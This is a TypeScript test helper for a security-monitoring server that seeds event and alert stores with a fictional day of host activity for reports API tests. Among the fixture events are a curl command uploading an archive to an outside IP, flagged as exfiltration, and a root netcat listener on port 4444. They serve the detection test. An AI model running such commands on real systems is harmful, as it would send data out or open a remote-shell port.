// A server whose API serves tiered reports the way embedded mode wires them:
// a small hand-written day of events on two hosts (and alerts) in real SQLite
// stores, startReports over them with the schedule off (the tests generate on
// demand), and API tokens for a viewer and an operator. Shared by the reports
// API and CLI tests.

import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type Bus, createMemoryBus, SqliteAlertStore, SqliteEventStore, silentLogger } from "@vigil/common";
import { hubConfigSchema, type RunningReports, startReports } from "@vigil/hub";
import { serverConfigSchema, startVigilServer, type VigilServer } from "@vigil/server";
import {
  type FixtureAlert,
  type FixtureEvent,
  fixtureAlertRecord,
  fixtureDocument,
} from "../fixtures/report-events";
import { apiCall } from "./servers-on-nats";

export const REPORTS_ADMIN_TOKEN = "reports-admin-token-0123456789abcdef";
/** The day the events fall in (a Tuesday). */
export const REPORT_DAY = "2026-02-03T00:00:00.000Z";
const DAY_MS = Date.parse(REPORT_DAY);
const at = (hh: number, mm: number) => DAY_MS + (hh * 60 + mm) * 60_000;

function exec(id: number, tsMs: number, host: "web" | "db", commandLine: string, user: string): FixtureEvent {
  const executable = commandLine.split(" ")[0] as string;
  return {
    id: `reports-api-${id}`,
    tsMs,
    hostId: `h-${host}-1`,
    hostName: `${host}-1`,
    category: "process",
    action: "exec",
    executable,
    commandLine,
    sha256: Buffer.from(executable).toString("hex").padEnd(64, "0").slice(0, 64),
    user,
  };
}

/**
 * Hand-counted: the day holds 7 events (web-1 5, db-1 2) in 3 cells (10:00 web
 * 3, 10:15 db 2, 14:30 web 2) and 2 alerts on web-1 (1 high, 1 medium).
 */
export const REPORT_EVENTS: FixtureEvent[] = [
  exec(1, at(10, 1), "web", "/usr/bin/id", "alice"),
  exec(2, at(10, 2), "web", "/usr/bin/id", "alice"),
  exec(3, at(10, 14), "web", "/usr/bin/curl -T /tmp/x.tgz http://198.51.100.7/", "alice"),
  exec(4, at(10, 20), "db", "/usr/bin/psql -c select", "postgres"),
  exec(5, at(10, 29), "db", "/usr/bin/id", "postgres"),
  {
    ...exec(6, at(14, 31), "web", "/usr/sbin/nc -l 4444", "root"),
    category: "network",
    action: "listen",
    listenPort: 4444,
  },
  exec(7, at(14, 40), "web", "/usr/bin/id", "root"),
];
export const REPORT_ALERTS: FixtureAlert[] = [
  {
    id: "reports-api-alert-1",
    tsMs: at(10, 14),
    hostId: "h-web-1",
    hostName: "web-1",
    ruleId: "exfil-curl",
    ruleName: "Upload with curl",
    level: "high",
  },
  {
    id: "reports-api-alert-2",
    tsMs: at(14, 31),
    hostId: "h-web-1",
    hostName: "web-1",
    ruleId: "listener",
    ruleName: "New listener",
    level: "medium",
  },
];

export interface ReportsServer {
  dir: string;
  server: VigilServer;
  /** A server of the same bus with reports off. */
  bare: VigilServer;
  reports: RunningReports;
  viewer: string;
  operator: string;
  close(): Promise<void>;
}

export async function startReportsServer(prefix: string): Promise<ReportsServer> {
  const dir = mkdtempSync(join(tmpdir(), `${prefix}-`));
  const events = new SqliteEventStore({ path: join(dir, "events.db") });
  await events.write(REPORT_EVENTS.map(fixtureDocument));
  await events.close();
  const alerts = new SqliteAlertStore({ path: join(dir, "alerts.db") });
  await alerts.write(REPORT_ALERTS.map(fixtureAlertRecord));
  await alerts.close();
  const bus: Bus = createMemoryBus();
  const hubConfig = hubConfigSchema.parse({
    alertStorePath: join(dir, "alerts.db"),
    events: { storePath: join(dir, "events.db") },
    reports: { dir: join(dir, "reports") },
  });
  const reports = await startReports(hubConfig, bus, silentLogger(), { schedule: false });
  const config = (serverId: string) =>
    serverConfigSchema.parse({
      serverId,
      grpc: { port: 0, agentToken: "reports-agent-token-0123456789abcdef" },
      api: { port: 0, token: REPORTS_ADMIN_TOKEN },
    });
  const server = await startVigilServer({ config: config("reports"), bus, logger: silentLogger(), reports });
  const bare = await startVigilServer({ config: config("reports-off"), bus, logger: silentLogger() });
  const token = async (role: string) => {
    const created = await apiCall(server, "POST", "/api/v1/tokens", {
      body: { name: `reports-${role}`, role },
      token: REPORTS_ADMIN_TOKEN,
    });
    if (created.status !== 201) throw new Error(`creating a ${role} token: ${JSON.stringify(created.body)}`);
    return created.body.token as string;
  };
  return {
    dir,
    server,
    bare,
    reports,
    viewer: await token("viewer"),
    operator: await token("operator"),
    close: async () => {
      await server.close(0);
      await bare.close(0);
      await reports.stop();
      await bus.close();
      rmSync(dir, { recursive: true, force: true });
    },
  };
}
